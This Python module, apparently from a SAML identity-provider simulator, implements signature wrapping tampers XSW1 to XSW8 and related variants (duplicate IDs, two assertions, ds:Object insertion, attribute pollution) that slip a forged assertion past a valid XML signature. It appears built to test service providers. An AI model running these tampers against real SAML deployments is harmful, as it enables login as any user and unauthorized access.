"""Signature wrapping: the signed part is kept and moved, and the victim's put where it may be read.

Numbers as in the tool that made them known, after "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
2012). What is not covered by the signature that is kept carries no signature of its own, as it would only betray it.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from copy import deepcopy
from types import MappingProxyType

from lxml import etree

from idpsim.sso.tamper.documents import (
    DS,
    EVIL_ASSERTION,
    EVIL_RESPONSE,
    SAMLP,
    Element,
    assertion,
    evil_assertion,
    pose,
    removed,
    signature,
    signed_part,
)
from idpsim.sso.tamper.hooks import SamlTamper, Scene

_Place = Callable[[Element, Element], None]


def _whole(place: _Place) -> SamlTamper:
    """XSW 1 and 2: the Response becomes the victim's; `place` puts the signed one somewhere at the signature.

    Where only the assertion is signed, its signature goes into the victim's, which takes its ID as well.
    """

    def wrapped(response: Element, scene: Scene) -> None:
        legit = deepcopy(response)
        inside = signature(response) is None
        kept = signature(assertion(response)) if inside else signature(response)
        pose(response, scene)
        response.set("ID", EVIL_RESPONSE)
        if kept is None:
            return
        host = assertion(response) if inside else response
        if inside:
            host.set("ID", assertion(legit).get("ID", ""))
        removed(signature(assertion(legit) if inside else legit))
        host.insert(1, kept)
        place(kept, legit)

    return SamlTamper(signed=wrapped)


def _beside(place: Callable[[Element, Element, Element], None]) -> SamlTamper:
    """XSW 3, 4 and 7: `place` puts the victim's assertion, without signature, at the signed one."""

    def wrapped(response: Element, scene: Scene) -> None:
        signed_part(response)
        place(response, assertion(response), evil_assertion(scene, EVIL_ASSERTION))

    return SamlTamper(signed=wrapped)


def _instead(place: _Place, *, same_id: bool = False) -> SamlTamper:
    """XSW 5, 6 and 8: the victim's assertion takes the place and the signature; `place` puts away the signed one."""

    def wrapped(response: Element, scene: Scene) -> None:
        signed_part(response)
        legit = assertion(response)
        kept = signature(legit)
        evil = evil_assertion(scene, legit.get("ID", "") if same_id else EVIL_ASSERTION)
        response.replace(legit, evil)
        if kept is None:
            kept = signature(response)
        else:
            evil.insert(1, kept)
        if kept is not None:
            place(kept, legit)

    return SamlTamper(signed=wrapped)


def _around(response: Element, legit: Element, evil: Element) -> None:
    response.append(evil)
    evil.append(legit)


def _extensions(response: Element, legit: Element, evil: Element) -> None:
    evil.set("ID", legit.get("ID", ""))
    extensions = etree.Element(f"{{{SAMLP}}}Extensions", nsmap={response.prefix: SAMLP})
    status = response.find(f"{{{SAMLP}}}Status")
    (legit if status is None else status).addprevious(extensions)
    extensions.append(evil)


def _at_the_end(kept: Element, legit: Element) -> None:
    root = kept.getroottree().getroot()
    root.append(legit)


def in_object(kept: Element, content: Element) -> None:
    """Put an element into an Object at the end of a signature."""
    held = etree.SubElement(kept, f"{{{DS}}}Object", nsmap={kept.prefix: DS})
    held.append(content)


def _two_assertions(response: Element, scene: Scene) -> None:
    signed_part(response)
    response.append(evil_assertion(scene, EVIL_ASSERTION))


def _duplicate_id(response: Element, scene: Scene) -> None:
    signed_part(response)
    legit = assertion(response)
    legit.addprevious(evil_assertion(scene, legit.get("ID", "")))


def _ds_object(response: Element, scene: Scene) -> None:
    outer = signature(response)
    kept = signature(assertion(response)) if outer is None else outer
    if kept is not None:
        in_object(kept, evil_assertion(scene, EVIL_ASSERTION))


def _polluted(kept: Element, legit: Element) -> None:
    in_object(kept, legit)
    host = kept.getparent()
    if host is not None:
        host.set(f"{{{etree.QName(host).namespace}}}ID", legit.get("ID", ""))


TAMPERS: Mapping[str, SamlTamper] = MappingProxyType(
    {
        "xsw1": _whole(lambda kept, legit: kept.append(legit)),
        "xsw2": _whole(lambda kept, legit: kept.addprevious(legit)),
        "xsw3": _beside(lambda _, legit, evil: legit.addprevious(evil)),
        "xsw4": _beside(_around),
        "xsw5": _instead(_at_the_end),
        "xsw6": _instead(lambda kept, legit: kept.append(legit)),
        "xsw7": _beside(_extensions),
        "xsw8": _instead(in_object, same_id=True),
        "two_assertions": SamlTamper(signed=_two_assertions),
        "duplicate_id": SamlTamper(signed=_duplicate_id),
        "ds_object": SamlTamper(signed=_ds_object),
        "attribute_pollution": _instead(_polluted),
    }
)
